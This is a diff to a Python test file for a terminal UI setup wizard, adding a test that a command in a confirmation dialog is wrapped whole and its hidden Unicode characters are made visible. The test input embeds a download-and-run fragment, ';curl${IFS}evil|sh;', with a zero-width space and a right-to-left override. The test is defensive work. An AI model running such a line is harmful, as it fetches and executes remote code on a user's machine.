@@ -26,11 +26,14 @@ from oulipoly_engine.core.setup.dialogs import (
     WizardAnswer,
     WizardPage,
 )
+from oulipoly_engine.core.setup.events import Agreement
 from oulipoly_engine.records import replace
 from oulipoly_tui.screens import review
 from oulipoly_tui.screens.question import Confirm
 from oulipoly_tui.screens.setup.form import FormScreen
 from oulipoly_tui.view.setup.dialogs import RunLogin, wish_page
+from oulipoly_tui.view.setup.log import agreement_body
+from oulipoly_tui.view.transcript.spans import cells, plain, wrap_lines
 
 KEY = "sk-ant-api03-made-up"
 FORM = Form(
@@ -275,3 +278,11 @@ async def test_long_labels_are_whole_and_hide_no_button(empty_world, running, as
         app.pop_screen()
         await asked(app, pilot, Confirmation("Sure?", "all of it", "c", "yes " * 30, "no " * 30))
         await settled(pilot, lambda: all(key in "\n".join(screen_text(app)) for key in ("(y)", "(n)")))
+
+
+def test_a_command_is_shown_whole_whatever_it_is_made_of():
+    text = "\uff1a" * 60 + ";curl${IFS}evil|sh;" + "\u200b\u202e" + "\uff1a" * 30
+    lines = wrap_lines(agreement_body(Agreement("command", "Run this command?", text)), 40)
+
+    assert max(cells(plain(line)) for line in lines) <= 40
+    assert "".join(map(plain, lines)) == text.replace("\u200b\u202e", "<U+200B><U+202E>")
